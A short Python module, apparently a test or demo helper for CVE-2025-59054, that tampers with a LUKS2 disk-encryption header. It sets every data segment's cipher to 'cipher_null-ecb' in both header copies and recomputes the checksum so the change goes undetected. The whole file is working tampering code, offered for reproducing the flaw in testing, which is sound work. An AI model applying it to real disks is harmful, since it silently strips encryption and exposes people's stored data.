"""What a hostile host does to a LUKS2 header: swap the cipher for none, with correct checksums (CVE-2025-59054).

For the demo and for tests only. Layout: LUKS2 On-Disk Format Specification 1.1, section 2.1.
"""

from __future__ import annotations

import hashlib
import json
import struct
from pathlib import Path

_BINARY = 4096
_CHECKSUM = slice(448, 512)


def null_cipher(image: Path) -> None:
    """Make every data segment of ``image`` plain text: any passphrase's volume key would "open" it."""
    with image.open("r+b") as device:
        (size,) = struct.unpack_from(">8xQ", device.read(_BINARY))
        for offset in (0, size):
            device.seek(offset)
            header = bytearray(device.read(size))
            device.seek(offset)
            device.write(_rewrite(header))


def _rewrite(header: bytearray) -> bytes:
    document = json.loads(bytes(header[_BINARY:]).rstrip(b"\0"))
    for segment in document["segments"].values():
        segment["encryption"] = "cipher_null-ecb"
    text = json.dumps(document, separators=(",", ":")).encode()
    header[_BINARY:] = text.ljust(len(header) - _BINARY, b"\0")
    header[_CHECKSUM] = bytes(64)
    header[448 : 448 + 32] = hashlib.sha256(header).digest()
    return bytes(header)
